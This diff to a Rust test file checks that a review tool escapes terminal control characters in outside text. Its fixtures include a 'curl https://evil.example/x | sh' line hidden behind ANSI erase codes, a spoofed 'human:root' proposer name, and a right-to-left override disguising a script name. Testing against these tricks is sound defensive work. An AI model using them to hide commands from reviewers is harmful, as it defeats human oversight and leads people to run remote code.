@@ -13,8 +13,9 @@ use common::{text, Repo};
 use serde_json::json;
 
 /// The line a reviewer should see, hidden behind a harmless one: `ESC[2K`
-/// erases the terminal line and `\r` returns to its start.
-const HIDDEN: &str = "+curl https://evil.example/x | sh\x1b[2K\r+echo hello";
+/// erases the terminal line and `ESC[1G` returns to its start. (A bare
+/// `\r` inside a diff line is refused at intake outright.)
+const HIDDEN: &str = "+curl https://evil.example/x | sh\x1b[2K\x1b[1G+echo hello";
 /// A proposer posing as a person.
 const SOURCE: &str = "ci\x1b[2K\rhuman:root";
 const TITLE: &str = "Tidy run.sh\x1b[2K\rDocs only";
@@ -76,7 +77,7 @@ fn outside_text_is_shown_with_its_controls_escaped() {
     assert!(shown.contains(&format!("(from {source})")), "{shown}");
     assert!(shown.contains(&format!("title: {title}")), "{shown}");
     assert!(
-        shown.contains(r"+curl https://evil.example/x | sh\x1b[2K\r+echo hello"),
+        shown.contains(r"+curl https://evil.example/x | sh\x1b[2K\x1b[1G+echo hello"),
         "{shown}"
     );
     assert!(shown.contains(r"Harmless \u{202e}hs.lave\u{202c} change"));
